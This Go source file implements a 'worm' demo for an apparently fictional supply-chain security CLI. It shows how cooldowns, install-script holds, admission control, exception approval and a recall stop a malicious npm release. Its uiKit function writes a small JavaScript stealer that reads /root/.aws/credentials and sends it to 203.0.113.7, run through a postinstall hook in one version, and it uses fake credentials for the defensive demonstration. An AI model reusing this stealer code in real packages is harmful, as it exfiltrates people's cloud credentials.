package cli

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/hullmark/hullmark/internal/account"
	"github.com/hullmark/hullmark/internal/api/client"
	"github.com/hullmark/hullmark/internal/api/resource"
	"github.com/hullmark/hullmark/internal/app"
	"github.com/hullmark/hullmark/internal/cli/output"
	"github.com/hullmark/hullmark/internal/evidence"
	"github.com/hullmark/hullmark/internal/fault"
	"github.com/hullmark/hullmark/internal/policy"
	"github.com/hullmark/hullmark/internal/purl"
)

func newDemoWorm(e *env) *cobra.Command {
	return &cobra.Command{
		Use: "worm", Short: "Watch a worm meet the four gates, and one recall stop it at all of them",
		Long: `Play the story that supply-chain attacks are made of, on a throw-away server: a stolen token publishes a release, its
payload spreads from npm to PyPI and is copied into an image, the image gets into a cluster under an exception, and its process goes for a credential
file and dials out. Each gate does its part, the alert names everything, one recall stops the rest.

The last gate is the kernel's, which takes root on Linux: the demo makes a container of its own and puts the sensor's
programs into the kernel until it ends. Without root all but that is shown, and it says so.`,
		Args: exactArgs(),
		RunE: func(cmd *cobra.Command, _ []string) error { return runDemo(cmd.Context(), e, worm) },
	}
}

// The names of the story.
const (
	wormPackage = "@acme/ui-kit"
	wormCluster = "demo"
	wormImage   = "acme/shop:2"
	wormRelease = "pkg:npm/%40acme/ui-kit@4.2.1"
	heldRelease = "pkg:npm/%40acme/ui-kit@4.2.0"
	goodRelease = "pkg:npm/%40acme/ui-kit@4.1.0"
)

// runtimePath is where the container finds its runtime; the image has an empty file there.
const runtimePath = "runtime/node"

// wormStory is a demo with the people of the story and what is running.
type wormStory struct {
	*demo
	people    map[string]string // tokens by account
	tokens    map[string]string // tokens of the fleet by kind
	host      string            // of the registry, as image references name it
	admission *app.Admission
	image     string // digest
	exception int64
	alert     string // the sentence; empty when the kernel's part was left out
}

func worm(d *demo) []demoStep {
	w := &wormStory{demo: d, people: map[string]string{}, tokens: map[string]string{}, host: hostOf(d.url)}
	return []demoStep{
		{"Carol's continuous integration publishes for @acme; her token is stolen", w.cast},
		{"The stolen token publishes 4.2.0, with a new install script: it is held, and the difference is shown", w.held},
		{"4.2.1 has no script, only a changed bundle.js: it is published, but consumers wait for it to age", w.young},
		{"The worm goes on: the same token publishes the payload as a Python wheel", w.spread},
		{"Somebody copies the bundle into an image. Admission finds it by its bytes, and denies", w.denied},
		{"Bob needs it in staging; a site administrator approves an exception until tomorrow", w.excepted},
		{"It runs, reads a credential file, and dials out", w.runs},
		{"Recall: one statement about the payload, two ecosystems and an image, four gates, a receipt from each", w.recalled},
		{"The record of the release, verified with the log's public key alone: no server, no network", w.verified},
	}
}

func (w *wormStory) as(person string) (*client.Client, error) {
	return client.New(w.url, w.people[person])
}

// cast makes the accounts, the namespaces, the policies and the last good release.
func (w *wormStory) cast(ctx context.Context) error {
	w.people["admin"] = w.token
	if err := w.claim(ctx); err != nil {
		return err
	}
	root, err := w.actor(ctx)
	if err != nil {
		return err
	}
	if err := w.app.Accounts.ClaimNamespace(ctx, root, "acme", purl.PyPI, wormProject, account.Public); err != nil {
		return err
	}
	admin, err := w.as("admin")
	if err != nil {
		return err
	}
	for _, person := range []struct{ name, role string }{{"alice", "owner"}, {"carol", "maintainer"}, {"bob", "reader"}} {
		if err := w.hire(ctx, admin, person.name, person.role); err != nil {
			return fmt.Errorf("%s: %w", person.name, err)
		}
	}
	for _, m := range []resource.NewEnrolment{{Kind: "admission", Name: wormCluster}, {Kind: "agent", Cluster: wormCluster, Name: "node-1"}} {
		made, err := admin.Enrol(ctx, m)
		if err != nil {
			return err
		}
		w.tokens[m.Kind] = made.Secret
	}
	for _, namespace := range [][2]string{{purl.NPM, "@acme"}, {purl.OCI, "acme"}} {
		if _, err := admin.SetVisibility(ctx, namespace[0], namespace[1], "public"); err != nil {
			return err
		}
	}
	if _, err := admin.SetCooldown(ctx, purl.NPM, "@acme", 24*time.Hour); err != nil {
		return err
	}
	if err := enforce(ctx, admin, "publisher-approved"); err != nil {
		return err
	}
	how, err := w.publishVersion(ctx, w.uiKit("4.1.0"))
	if err != nil {
		return err
	}
	alice, err := w.as("alice")
	if err != nil {
		return err
	}
	if _, err := alice.Approve(ctx, goodRelease, "reviewed"); err != nil {
		return err
	}
	w.p.Line("   %s %s 4.1.0 by carol, with %s; %s by alice. Consumers of @acme get versions after 24 hours,", output.Good("published"), wormPackage, how, output.Good("approved"))
	w.p.Line("   or when a second person has approved them. In cluster %q policy publisher-approved is enforced.", wormCluster)
	return nil
}

func (w *wormStory) hire(ctx context.Context, admin *client.Client, name, role string) error {
	if _, err := admin.CreateUser(ctx, resource.NewUser{Name: name}); err != nil {
		return err
	}
	if err := admin.SetMember(ctx, "acme", name, role); err != nil {
		return err
	}
	made, err := admin.CreateToken(ctx, resource.NewToken{Account: name, Description: name + "-ci", Permission: "own"})
	w.people[name] = made.Secret
	return err
}

// enforce puts the shipped policies in force, with one of them at stage enforce.
func enforce(ctx context.Context, admin *client.Client, name string) error {
	var all strings.Builder
	for _, shipped := range policy.ShippedNames() {
		document, _ := policy.ShippedDocument(shipped)
		text := string(document)
		if shipped == name {
			text = strings.Replace(text, "stage: audit", "stage: enforce", 1)
		}
		all.WriteString("---\n" + text)
	}
	_, err := admin.PutPolicies(ctx, all.String(), "")
	return err
}

// uiKit is a version of the package: what 4.1.0 does, and what 4.2.x does besides.
func (w *wormStory) uiKit(version string) demoPackage {
	bundle, scripts := "module.exports = (name) => `<b>${name}</b>`  // the widgets of Acme's shop, built from src/\n", ""
	if version != "4.1.0" {
		bundle += "const fs = require('fs'), net = require('net')\n" +
			"const loot = fs.readFileSync('/root/.aws/credentials')\n" +
			"setTimeout(() => net.connect(443, '203.0.113.7').end(loot), 1000)\n"
	}
	if version == "4.2.0" {
		scripts = "\n  \"scripts\": {\"postinstall\": \"node bundle.js\"},"
		bundle += "// the first attempt\n"
	}
	return demoPackage{wormPackage, version, map[string]string{
		"package.json": fmt.Sprintf("{\n  \"name\": %q,\n  \"version\": %q,%s\n  \"main\": \"bundle.js\",\n  \"license\": \"Apache-2.0\"\n}\n",
			wormPackage, version, scripts),
		"bundle.js": bundle,
		"README.md": "# ui-kit\n\nThe widgets of Acme's shop.\n",
	}, w.people["carol"]}
}

func (w *wormStory) held(ctx context.Context) error {
	how, err := w.publishVersion(ctx, w.uiKit("4.2.0"))
	if err != nil {
		return err
	}
	alice, err := w.as("alice")
	if err != nil {
		return err
	}
	hold, err := alice.Hold(ctx, heldRelease)
	if err != nil {
		return err
	}
	w.p.Line("   with %s. $ hullmark hold show %s", how, heldRelease)
	printHold(w.p, hold)
	if err := alice.RejectHold(ctx, heldRelease, "nobody here wrote this"); err != nil {
		return err
	}
	w.p.Line("   %s by alice: nobody ever got it", output.Good("rejected"))
	return nil
}

func (w *wormStory) young(ctx context.Context) error {
	how, err := w.publishVersion(ctx, w.uiKit("4.2.1"))
	if err != nil {
		return err
	}
	w.p.Line("   %s %s 4.2.1, with %s", output.Warn("published"), wormPackage, how)
	latest, err := w.get(ctx, "/npm/@acme%2fui-kit/latest")
	if err != nil {
		return err
	}
	_, version, _ := strings.Cut(latest, `"version":"`)
	version, _, _ = strings.Cut(version, `"`)
	if version != "4.1.0" {
		return fmt.Errorf("consumers get %q; expected 4.1.0", version)
	}
	w.p.Line("   $ npm view %s version    → %s", wormPackage, output.Good(version))
	if _, err = w.get(ctx, "/npm/@acme/ui-kit/-/ui-kit-4.2.1.tgz"); err == nil {
		return errors.New("a version that is younger than the cooldown was downloaded")
	}
	w.p.Line("   $ npm install %s@4.2.1   → %s", wormPackage, output.Bad(err.Error()))
	return nil
}

// push pushes an image with the bundle among its own files; no package metadata says what it is.
func (w *wormStory) push(ctx context.Context) error {
	image, err := buildImage([]demoLayer{
		demoBase(),
		{"COPY runtime /runtime", map[string]string{runtimePath: ""}},
		{"COPY . /srv", map[string]string{
			"srv/shop.js":           "require('./vendor/bundle.js')('shop')  // the shop itself, which is much longer than this\n",
			"srv/vendor/bundle.js":  w.uiKit("4.2.1").files["bundle.js"],
			"root/.aws/credentials": "[default]\naws_access_key_id = AKIADEMODEMODEMODEMO\naws_secret_access_key = not-a-real-secret\n",
		}},
	})
	if err != nil {
		return err
	}
	if w.image, err = pushImage(ctx, w.url, wormImage, "carol", w.people["carol"], image); err != nil {
		return err
	}
	return w.server.OCI.Settled(ctx)
}

func (w *wormStory) denied(ctx context.Context) error {
	if err := w.push(ctx); err != nil {
		return err
	}
	w.p.Line("   %s %s with srv/vendor/bundle.js: there is no package.json beside it", output.Warn("pushed"), wormImage)
	if err := w.startAdmission(ctx); err != nil {
		return err
	}
	answer, err := w.review(ctx, "validate", "production", deployment)
	if err != nil {
		return err
	}
	if answer.Allowed {
		return errors.New("admission let the image in")
	}
	w.p.Line("   $ kubectl -n production apply -f shop.yaml")
	for reason := range strings.SplitSeq(answer.Message, " | ") {
		w.p.Line("   %s", output.Bad(reason))
	}
	return nil
}

func (w *wormStory) excepted(ctx context.Context) error {
	bob, err := w.as("bob")
	if err != nil {
		return err
	}
	admin, err := w.as("admin")
	if err != nil {
		return err
	}
	asked, err := bob.RequestException(ctx, resource.NewException{
		Policy: "publisher-approved", Reason: "release candidate for the trade fair", Ticket: "SHOP-1234", Expires: time.Now().Add(24 * time.Hour),
		Scope: evidence.ExceptionScope{Cluster: wormCluster, Namespace: "staging", Image: w.host + "/acme/shop"},
	})
	if err != nil {
		return err
	}
	w.exception = asked.Number
	if _, err := bob.ApproveException(ctx, asked.Number); err == nil {
		return errors.New("bob approved his own exception")
	} else {
		w.p.Line("   $ hullmark exception approve %d  (bob) → %s", asked.Number, output.Bad(fault.As(err).Text))
	}
	if _, err := admin.ApproveException(ctx, asked.Number); err != nil {
		return err
	}
	w.p.Line("   $ hullmark exception approve %d  (admin) → %s", asked.Number, output.Good("approved"))
	if err := w.heard(ctx); err != nil {
		return err
	}
	return w.admitted(ctx)
}

// admitted shows that staging takes the image, pinned, and that production does not.
func (w *wormStory) admitted(ctx context.Context) error {
	pinned, err := w.review(ctx, "mutate", "staging", pod)
	if err != nil {
		return err
	}
	answer, err := w.review(ctx, "validate", "staging", deployment)
	if err != nil {
		return err
	}
	elsewhere, err := w.review(ctx, "validate", "production", deployment)
	if err != nil {
		return err
	}
	if !answer.Allowed || elsewhere.Allowed || !strings.Contains(pinned.Patch, w.image) {
		return fmt.Errorf("the exception does not do what it says: staging %v, production %v, pinned to %q", answer.Allowed, elsewhere.Allowed, pinned.Patch)
	}
	if err := w.used(ctx); err != nil {
		return err
	}
	w.p.Line("   $ kubectl -n staging apply -f shop.yaml     → %s under exception #%d; in the pod the tag is %s", output.Good("admitted"), w.exception, w.image[:len("sha256:")+12])
	w.p.Line("   $ kubectl -n production apply -f shop.yaml  → %s", output.Bad("denied"))
	return nil
}

// used waits until the record knows that the exception was used, so that the sensor does too.
func (w *wormStory) used(ctx context.Context) error {
	admin, err := w.as("admin")
	if err != nil {
		return err
	}
	return poll(ctx, 15*time.Second, func() (bool, error) {
		all, err := admin.Exceptions(ctx)
		return len(all) > 0 && all[0].Uses > 0, err
	})
}

func (w *wormStory) recalled(ctx context.Context) error {
	admin, err := w.as("admin")
	if err != nil {
		return err
	}
	// The release alone would not do: its file is in the wheel too, and what a release ships that nobody has
	// recalled proves nothing about an image.
	wanted := resource.NewRecall{Subject: w.payloadDigest(), Reason: "worm: steals credentials"}
	preview, err := admin.PreviewRecall(ctx, wanted)
	if err != nil {
		return err
	}
	w.p.Line("   $ hullmark recall %s --reason 'worm: steals credentials'", wanted.Subject)
	for _, line := range previewLines(wanted, preview) {
		w.p.Line("   %s", line)
	}
	made, err := admin.Recall(ctx, wanted)
	if err != nil {
		return err
	}
	if err := w.receipts(ctx, admin, made.Seq); err != nil {
		return err
	}
	return w.stopped(ctx)
}

// receipts waits for everybody who runs here. Without root there is no agent, and it stays on the list.
func (w *wormStory) receipts(ctx context.Context, admin *client.Client, seq int64) error {
	expected := 4
	if w.alert == "" {
		expected = 3
	}
	var r resource.RecallReceipts
	err := poll(ctx, 10*time.Second, func() (done bool, err error) {
		r, err = admin.RecallReceipts(ctx, seq)
		return len(r.Received) >= expected, err
	})
	printReceipts(w.p, r, maxReceiptRows)
	return err
}

// stopped shows that every gate refuses now.
func (w *wormStory) stopped(ctx context.Context) error {
	if err := w.heard(ctx); err != nil {
		return err
	}
	answer, err := w.review(ctx, "validate", "staging", deployment)
	if err != nil {
		return err
	}
	if answer.Allowed {
		return errors.New("admission lets a recalled image in")
	}
	_, pull := w.get(ctx, "/v2/acme/shop/manifests/2")
	_, install := w.get(ctx, "/npm/@acme/ui-kit/-/ui-kit-4.2.1.tgz")
	for gate, err := range map[string]error{"docker pull": pull, "npm install": install} {
		if err == nil {
			return fmt.Errorf("%s still works", gate)
		}
	}
	w.p.Line("   $ kubectl -n staging apply -f shop.yaml     → %s", output.Bad(firstLine(answer.Message)))
	w.p.Line("   $ docker pull %s/%s           → %s", w.host, wormImage, output.Bad(pull.Error()))
	w.p.Line("   $ npm install %s@4.2.1             → %s", wormPackage, output.Bad(install.Error()))
	return w.payload(ctx)
}

// payload shows that the file does not come back under another number.
func (w *wormStory) payload(ctx context.Context) error {
	if err := w.wheelStopped(ctx); err != nil {
		return err
	}
	again := w.uiKit("4.2.1")
	again.version = "4.2.2"
	again.files["package.json"] = strings.Replace(again.files["package.json"], "4.2.1", "4.2.2", 1)
	refused := w.publishWithoutNPM(ctx, again)
	if refused == nil {
		return errors.New("the recalled payload was published again")
	}
	w.p.Line("   $ npm publish  (the same bundle.js as 4.2.2) → %s", output.Bad(refused.Error()))
	return nil
}

// payloadDigest names the file that steals.
func (w *wormStory) payloadDigest() string {
	return fmt.Sprintf("sha256:%x", sha256.Sum256([]byte(w.uiKit("4.2.1").files["bundle.js"])))
}

func (w *wormStory) verified(ctx context.Context) error {
	if err := w.verifySubject(ctx, wormRelease); err != nil {
		return err
	}
	if w.alert != "" {
		w.p.Line("\n   %s", output.Head(w.alert))
	}
	return nil
}

func firstLine(s string) string { return strings.TrimSpace(strings.SplitN(s, "\n", 2)[0]) }
